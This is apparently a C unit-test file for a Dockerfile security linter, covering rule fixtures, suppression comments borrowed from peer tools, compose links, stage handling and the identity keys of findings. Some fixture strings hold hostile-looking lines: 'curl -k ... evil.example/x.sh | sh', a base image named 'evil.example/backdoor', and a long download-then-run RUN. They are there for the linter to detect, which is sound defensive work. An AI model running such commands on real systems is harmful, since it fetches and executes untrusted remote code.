/*
 * check_dockerfile_rules.c: every Dockerfile rule against its fixtures
 * (testdata/rules/<ID>/), plus the engine's suppressions and links.
 */
#include "util/compat.h"
#include "helpers.h"
#include "rules/fixtures.h"
#include "dockerfile/dockerfile.h"
#include "core/key.h"
#include "core/links.h"
#include "core/registry.h"
#include "policy/policy.h"
#include "repo/source.h"

START_TEST(test_dockerfile_rule_fixtures)
{
	t_rule_fixtures(SG_STAGE_DOCKERFILE, df_lint_file);
}
END_TEST

/* Lint `text`; count findings of rule `id`: total and suppressed. */
static void lint(const char *text, const char *id, size_t *total,
		 size_t *suppressed, struct sg_links *links, sg_findings **keep)
{
	struct sg_policy *pol = NULL;
	sg_findings *set = NULL;
	sg_error err;
	size_t i;

	sg_error_clear(&err);
	ck_assert_int_eq(sg_policy_defaults(&pol, "2026-01-01", &err), 0);
	ck_assert_int_eq(sg_findings_new(&set), 0);
	{
		struct sg_stage_ctx ctx = { pol, NULL, set, links };

		ck_assert_int_eq(df_lint_file(&ctx, "app/Dockerfile", text,
					      strlen(text), &err), 0);
	}
	ck_assert_int_eq(sg_findings_finalize(set), 0);
	*total = *suppressed = 0;
	for (i = 0; i < sg_findings_count(set); i++) {
		const sg_finding *f = sg_findings_at(set, i);

		if (strcmp(f->rule->id, id))
			continue;
		(*total)++;
		if (f->verdict == SG_VERDICT_SUPPRESSED)
			(*suppressed)++;
	}
	if (keep)
		*keep = set;
	else
		sg_findings_free(set);
	sg_policy_free(pol);
}

struct supp_case {
	const char *text, *rule;
	size_t total, suppressed;
};

START_TEST(test_dockerfile_suppressions)
{
	static const struct supp_case cases[] = {
		/* next instruction only, by id, name or peer alias */
		{ "FROM alpine:3.20\n# shipgate ignore=SGD050 vendored\nADD a /b\n"
		  "ADD c /d\n", "SGD050", 2, 1 },
		{ "FROM alpine:3.20\n# hadolint ignore=DL3020\nADD a /b\n",
		  "SGD050", 1, 1 },
		{ "FROM alpine:3.20\n# shipgate ignore=add-instead-of-copy\n"
		  "ADD a /b\n", "SGD050", 1, 1 },
		{ "FROM alpine:3.20\n# hadolint ignore=DL3020 # reason\n\n"
		  "ADD a /b\n", "SGD050", 1, 1 },
		/* file-global and per-stage */
		{ "FROM alpine:3.20\nADD a /b\n# hadolint global ignore=DL3020\n"
		  "ADD c /d\n", "SGD050", 2, 2 },
		{ "# shipgate stage ignore=SGD050\nFROM alpine:3.20 AS a\nADD a /b\n"
		  "FROM alpine:3.20\nADD c /d\n", "SGD050", 2, 1 },
		/* BuildKit: directive (file) and above an instruction */
		{ "# check=skip=MaintainerDeprecated;error=true\nFROM alpine:3.20\n"
		  "MAINTAINER x\n", "SGD080", 1, 1 },
		{ "FROM alpine:3.20\n# check=skip=JSONArgsRecommended\nCMD run\n"
		  "CMD run\n", "SGD060", 2, 1 },
		{ "# check=skip=JSONArgsRecommended\nFROM alpine:3.20\nCMD a\n"
		  "ENTRYPOINT b\n", "SGD060", 2, 2 },
		/* a "missing X" finding sits on the final FROM */
		{ "FROM alpine:3.20\n# trivy:ignore:DS-0026\nFROM alpine:3.20\n",
		  "SGD064", 1, 1 },
		{ "FROM alpine:3.20\n# kics-scan ignore-line\nEXPOSE 22\n",
		  "SGD071", 1, 1 },
		{ "FROM alpine:3.20\nEXPOSE 22\n# kics-scan ignore-block\n"
		  "EXPOSE 22\nEXPOSE 22/tcp\nFROM alpine:3.20\nEXPOSE 22\n",
		  "SGD071", 4, 2 },
		{ "# checkov:skip=CKV_DOCKER_1:bastion image\nFROM alpine:3.20\n"
		  "EXPOSE 22\n", "SGD071", 1, 1 },
		/* unknown ids are findings of their own */
		{ "FROM alpine:3.20\n# shipgate ignore=SGD999\nEXPOSE 22\n",
		  "SGG005", 1, 0 },
		/* ShellCheck codes are foreign, not unknown */
		{ "FROM alpine:3.20\n# hadolint ignore=SC2086,DL3020\nADD a /b\n",
		  "SGG005", 0, 0 },
	};
	size_t i, total, supp;

	for (i = 0; i < SG_ARRAY_SIZE(cases); i++) {
		lint(cases[i].text, cases[i].rule, &total, &supp, NULL, NULL);
		ck_assert_msg(total == cases[i].total &&
			      supp == cases[i].suppressed,
			      "case %zu: %zu findings of %s (%zu suppressed), "
			      "want %zu (%zu)", i, total, cases[i].rule, supp,
			      cases[i].total, cases[i].suppressed);
	}
}
END_TEST

START_TEST(test_dockerfile_compose_links)
{
	struct sg_links links;
	struct sg_link l = { "compose.yaml", "web", 4, "app/Dockerfile", NULL,
			     NULL };
	sg_findings *set;
	size_t total, supp;
	const sg_finding *f;

	sg_links_init(&links);
	ck_assert_int_eq(sg_links_add(&links, &l), 0);
	lint("FROM alpine:3.20\nEXPOSE 22\n", "SGD071", &total, &supp,
	     &links, &set);
	ck_assert_uint_eq(total, 1);
	f = NULL;
	{
		size_t i;

		for (i = 0; i < sg_findings_count(set); i++)
			if (!strcmp(sg_findings_at(set, i)->rule->id, "SGD071"))
				f = sg_findings_at(set, i);
	}
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->nrelated, 1);
	ck_assert_str_eq(f->related[0].loc.path, "compose.yaml");
	ck_assert_uint_eq(f->related[0].loc.line, 4);
	ck_assert_ptr_nonnull(strstr(f->related[0].message, "'web'"));
	sg_findings_free(set);
	sg_links_release(&links);
}
END_TEST

START_TEST(test_dockerfile_builder_stages_are_not_final)
{
	size_t total, supp;

	/* the top false positive of the peers: root in a builder stage */
	lint("FROM golang:1.22 AS build\nUSER root\nRUN go build\n"
	     "FROM gcr.io/distroless/static:nonroot\nCOPY --from=build /a /a\n",
	     "SGD040", &total, &supp, NULL, NULL);
	ck_assert_uint_eq(total, 0);
	lint("FROM golang:1.22 AS build\nUSER app\nFROM build\nUSER root\n",
	     "SGD040", &total, &supp, NULL, NULL);
	ck_assert_uint_eq(total, 1);
	/* inherited USER counts */
	lint("FROM debian:12 AS base\nUSER 10001\nFROM base\n", "SGD041",
	     &total, &supp, NULL, NULL);
	ck_assert_uint_eq(total, 0);
}
END_TEST

/* The first finding of rule `id` linting `text`: its fingerprint, key and
 * object ("" when none) into the caller's buffers. */
static void identity_of(const char *text, const char *id, char fp[65],
			char *key, size_t keysize, char *obj, size_t objsize)
{
	sg_findings *set = NULL;
	size_t total, supp, i;

	lint(text, id, &total, &supp, NULL, &set);
	ck_assert_msg(total >= 1, "no %s in:\n%s", id, text);
	for (i = 0; i < sg_findings_count(set); i++) {
		const sg_finding *f = sg_findings_at(set, i);

		if (strcmp(f->rule->id, id))
			continue;
		memcpy(fp, f->fingerprint, 65);
		snprintf(key, keysize, "%s", f->key);
		snprintf(obj, objsize, "%s", f->loc.object ? f->loc.object : "");
		break;
	}
	sg_findings_free(set);
}

/* A finding's key holds what the finding is about: heredoc bodies, values
 * resolved from ARG/ENV or other stages, the whole instruction however
 * long (bounded by a digest), never a stage's position; layout is not
 * part of it. */
START_TEST(test_dockerfile_identity_keys)
{
	char fa[65], fb[65], ka[6000], kb[6000], oa[300], ob[300];
	struct sg_buf t = SG_BUF_INIT(1 << 20);
	size_t i;

	/* RUN <<EOF: the body is in the key; its layout is not */
	identity_of("FROM debian:12\nRUN <<EOF\ncurl -k https://good.example/i.sh | sh\nEOF\n",
		    "SGD170", fa, ka, sizeof(ka), oa, sizeof(oa));
	ck_assert_str_eq(ka, "RUN <<EOF curl -k https://good.example/i.sh | sh | -k");
	identity_of("FROM debian:12\nRUN <<EOF\ncurl -k https://evil.example/x.sh | sh\nEOF\n",
		    "SGD170", fb, kb, sizeof(kb), ob, sizeof(ob));
	ck_assert_str_ne(fa, fb);
	identity_of("FROM debian:12\n\nRUN  <<EOF\n  curl  -k\thttps://good.example/i.sh |  sh\n\nEOF\n",
		    "SGD170", fb, kb, sizeof(kb), ob, sizeof(ob));
	ck_assert_str_eq(fa, fb);

	/* FROM ${BASE}: the value the rules judge is in the key */
	identity_of("ARG BASE=debian:latest\nFROM ${BASE}\n", "SGD021", fa, ka,
		    sizeof(ka), oa, sizeof(oa));
	ck_assert_str_eq(ka, "FROM ${BASE} => FROM debian:latest | ${BASE}");
	identity_of("ARG BASE=evil.example/backdoor:latest\nFROM ${BASE}\n",
		    "SGD021", fb, kb, sizeof(kb), ob, sizeof(ob));
	ck_assert_str_ne(fa, fb);
	/* ENV values too */
	identity_of("FROM debian:12\nARG V=0\nENV DOCKER_CONTENT_TRUST=$V\n",
		    "SGD049", fa, ka, sizeof(ka), oa, sizeof(oa));
	ck_assert_ptr_nonnull(strstr(ka, " => ENV DOCKER_CONTENT_TRUST=0 | "));
	/* a base reached through another stage: in the key of SGD041 */
	identity_of("FROM debian:12 AS base\nFROM base\n", "SGD041", fa, ka,
		    sizeof(ka), oa, sizeof(oa));
	ck_assert_str_eq(ka, "FROM base = debian:12");
	identity_of("FROM ubuntu:24.04 AS base\nFROM base\n", "SGD041", fb, kb,
		    sizeof(kb), ob, sizeof(ob));
	ck_assert_str_ne(fa, fb);

	/* a 5 kB RUN: bounded key, and its end still counts */
	sg_buf_puts(&t, "FROM debian:12\nRUN curl -k https://x/t.sh -o /t.sh");
	for (i = 0; i < 300; i++)
		sg_buf_printf(&t, " && \\\n    echo %03zu", i);
	sg_buf_puts(&t, " && sh /t.sh --verify\n");
	identity_of(sg_buf_cstr(&t), "SGD170", fa, ka, sizeof(ka), oa,
		    sizeof(oa));
	ck_assert_uint_lt(strlen(ka), SG_KEY_PIECE_MAX + 200);
	ck_assert_ptr_nonnull(strstr(ka, " ... sha256:"));
	memcpy(strstr(t.ptr, "--verify"), "--backdr", 8);
	identity_of(sg_buf_cstr(&t), "SGD170", fb, kb, sizeof(kb), ob,
		    sizeof(ob));
	ck_assert_str_ne(fa, fb);

	/* the stage's name is in the identity, an unnamed stage's position
	 * is not: a stage added above keeps the fingerprint */
	identity_of("FROM debian:12\nUSER root\n", "SGD040", fa, ka,
		    sizeof(ka), oa, sizeof(oa));
	ck_assert_str_eq(oa, "");
	identity_of("FROM golang:1.22 AS build\nRUN go build\n"
		    "FROM debian:12\nUSER root\n", "SGD040", fb, kb,
		    sizeof(kb), ob, sizeof(ob));
	ck_assert_str_eq(ob, "");
	ck_assert_str_eq(fa, fb);
	identity_of("FROM debian:12 AS run\nUSER root\n", "SGD040", fb, kb,
		    sizeof(kb), ob, sizeof(ob));
	ck_assert_str_eq(ob, "stage run");
	ck_assert_str_ne(fa, fb);
	sg_buf_release(&t);
}
END_TEST

/* .hadolint.yaml: ignored, trustedRegistries, label-schema */
START_TEST(test_dockerfile_hadolint_config)
{
	char *dir = t_tmpdir("hadolint-config");
	char path[4096];
	static const char df[] = "FROM docker.io/python:3.12\n"
				 "EXPOSE 22\nADD a /b\n";
	struct sg_policy *pol = NULL;
	struct sg_source *src = NULL;
	sg_findings *set = NULL;
	sg_error err;
	size_t i, sgd020 = 0, sgd023 = 0, sgd050 = 0, sgd050s = 0, sgd082 = 0,
	       sgg005 = 0;

	static const char cfg[] = "ignored:\n  - DL3020\n  - SC2086\n"
		"trustedRegistries: registry.corp.example\n"
		"label-schema:\n  org.opencontainers.image.source: url\n";
	/* the scan driver reads the file (from the policy's revision) */
	const struct sg_stage_file hf = { ".hadolint.yaml", cfg,
					  sizeof(cfg) - 1 };

	snprintf(path, sizeof(path), "%s/Dockerfile", dir);
	t_write(path, df);
	sg_error_clear(&err);
	ck_assert_int_eq(sg_policy_defaults(&pol, "2026-01-01", &err), 0);
	ck_assert_int_eq(sg_source_open_dir(&src, dir, &err), 0);
	ck_assert_int_eq(sg_findings_new(&set), 0);
	{
		struct sg_stage_ctx ctx = { pol, src, set, NULL };

		ctx.hadolint = &hf;
		ck_assert_int_eq(df_lint_file(&ctx, "Dockerfile", df, strlen(df),
					      &err), 0);
	}
	for (i = 0; i < sg_findings_count(set); i++) {
		const sg_finding *f = sg_findings_at(set, i);
		const char *id = f->rule->id;

		sgd020 += !strcmp(id, "SGD020");
		sgd023 += !strcmp(id, "SGD023");
		sgd082 += !strcmp(id, "SGD082");
		sgg005 += !strcmp(id, "SGG005");
		if (!strcmp(id, "SGD050")) {
			sgd050++;
			sgd050s += f->verdict == SG_VERDICT_SUPPRESSED;
		}
	}
	ck_assert_uint_eq(sgd020, 0);
	ck_assert_uint_eq(sgd023, 1);   /* docker.io is not trusted */
	ck_assert_uint_eq(sgd082, 1);   /* label-schema label missing */
	ck_assert_uint_eq(sgd050, 1);
	ck_assert_uint_eq(sgd050s, 1);  /* ignored: DL3020 */
	ck_assert_uint_eq(sgg005, 0);   /* SC2086 in a config is not an error */
	sg_findings_free(set);
	sg_source_free(src);
	/* the policy can switch the import off */
	pol->dockerfile.import_hadolint = false;
	ck_assert_int_eq(sg_source_open_dir(&src, dir, &err), 0);
	ck_assert_int_eq(sg_findings_new(&set), 0);
	{
		struct sg_stage_ctx ctx = { pol, src, set, NULL };

		ctx.hadolint = &hf;
		ck_assert_int_eq(df_lint_file(&ctx, "Dockerfile", df, strlen(df),
					      &err), 0);
	}
	for (i = 0, sgd023 = 0; i < sg_findings_count(set); i++)
		sgd023 += !strcmp(sg_findings_at(set, i)->rule->id, "SGD023");
	ck_assert_uint_eq(sgd023, 0);
	sg_findings_free(set);
	sg_source_free(src);
	sg_policy_free(pol);
	free(dir);
}
END_TEST

/*
 * Every concept row of ../shared/reference/dockerfile-rules.md (C001...)
 * has, for each peer id in its hadolint, BuildKit, Trivy, Checkov and
 * KICS columns, a Dockerfile rule carrying that id in its aliases.
 * Exceptions, each with its reason, are listed here and nowhere else.
 */
static const struct {
	const char *concept, *why;
} not_covered[] = {
	{ "C094", "ShellCheck (SC*) is not embedded" },
};

static bool dockerfile_alias(const char *id)
{
	size_t i, n = sg_rules_count();

	for (i = 0; i < n; i++) {
		const sg_rule *r = sg_rules_at(i);

		if (r->stage == SG_STAGE_DOCKERFILE && sg_rule_has_alias(r, id))
			return true;
	}
	return false;
}

/* A KICS query name is one cell (it may hold commas); a trailing
 * "(common)" note is not part of it. */
static void check_name(const char *concept, const char *cell, size_t len,
		       struct sg_buf *log)
{
	char buf[1024], *paren;

	snprintf(buf, sizeof(buf), "%.*s", (int)len, cell);
	if (!strcmp(buf, "\xe2\x80\x94") || dockerfile_alias(buf))
		return;
	if ((paren = strstr(buf, " (")) && (*paren = '\0', dockerfile_alias(buf)))
		return;
	sg_buf_printf(log, "%s: no Dockerfile rule has alias '%s'\n", concept, buf);
}

/* Check one table cell: ids separated by "," or "<br>". */
static void check_cell(const char *concept, const char *cell, size_t len,
		       struct sg_buf *log)
{
	char buf[1024], *p, *save = NULL;

	if (len >= sizeof(buf))
		len = sizeof(buf) - 1;
	memcpy(buf, cell, len);
	buf[len] = '\0';
	while ((p = strstr(buf, "<br>")))
		memcpy(p, ",,,,", 4);
	for (p = buf; p; p = save) {
		char *e = strchr(p, ','), *b;
		size_t n;

		save = e ? e + 1 : NULL;
		if (e)
			*e = '\0';
		while (*p == ' ')
			p++;
		b = p + strlen(p);
		while (b > p && b[-1] == ' ')
			*--b = '\0';
		/* "passwords_and_secrets (common)": the id is the first word */
		if ((b = strstr(p, " (")))
			*b = '\0';
		n = strlen(p);
		if (!n || !strcmp(p, "\xe2\x80\x94"))
			continue;
		if (!dockerfile_alias(p))
			sg_buf_printf(log, "%s: no Dockerfile rule has alias '%s'\n",
				      concept, p);
	}
}

START_TEST(test_dockerfile_reference_coverage)
{
	char path[4096];
	char *ref, *line;
	struct sg_buf log = SG_BUF_INIT(64 * 1024);
	size_t rows = 0;

	if (t_skip_without_shared("dockerfile reference coverage"))
		return;
	snprintf(path, sizeof(path), "%s/reference/dockerfile-rules.md",
		 t_shared());
	ref = t_read(path, NULL);
	ck_assert_ptr_nonnull(ref);
	for (line = ref; line && *line;) {
		char *nl = strchr(line, '\n');
		const char *cols[16];
		size_t ncols = 0, i;
		bool skip = false;
		char id[8];

		if (nl)
			*nl = '\0';
		if (!strncmp(line, "| C", 3) && sg_isdigit((unsigned char)line[3])) {
			char *p = line + 1;

			/* | ID | Concept | hl | bk | tv | ck | kx | other | ... */
			while (ncols < 16 && (p = strstr(p, " | "))) {
				cols[ncols++] = p + 3;
				p += 3;
			}
			snprintf(id, sizeof(id), "%.4s", line + 2);
			for (i = 0; i < SG_ARRAY_SIZE(not_covered); i++)
				if (!strcmp(not_covered[i].concept, id))
					skip = true;
			if (ncols >= 7 && !skip) {
				for (i = 1; i <= 5; i++) {
					const char *end = strstr(cols[i], " | ");
					size_t n = end ? (size_t)(end - cols[i]) :
							 strlen(cols[i]);

					if (i == 5)
						check_name(id, cols[i], n, &log);
					else
						check_cell(id, cols[i], n, &log);
				}
				rows++;
			}
		}
		line = nl ? nl + 1 : NULL;
	}
	free(ref);
	ck_assert_uint_ge(rows, 120);
	ck_assert_msg(log.len == 0, "%s", sg_buf_cstr(&log));
	sg_buf_release(&log);
}
END_TEST

Suite *dockerfile_rules_suite(void)
{
	Suite *s = suite_create("dockerfile_rules");
	TCase *tc = tcase_create("rules");

	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, test_dockerfile_rule_fixtures);
	tcase_add_test(tc, test_dockerfile_suppressions);
	tcase_add_test(tc, test_dockerfile_compose_links);
	tcase_add_test(tc, test_dockerfile_builder_stages_are_not_final);
	tcase_add_test(tc, test_dockerfile_identity_keys);
	tcase_add_test(tc, test_dockerfile_hadolint_config);
	tcase_add_test(tc, test_dockerfile_reference_coverage);
	suite_add_tcase(s, tc);
	return s;
}
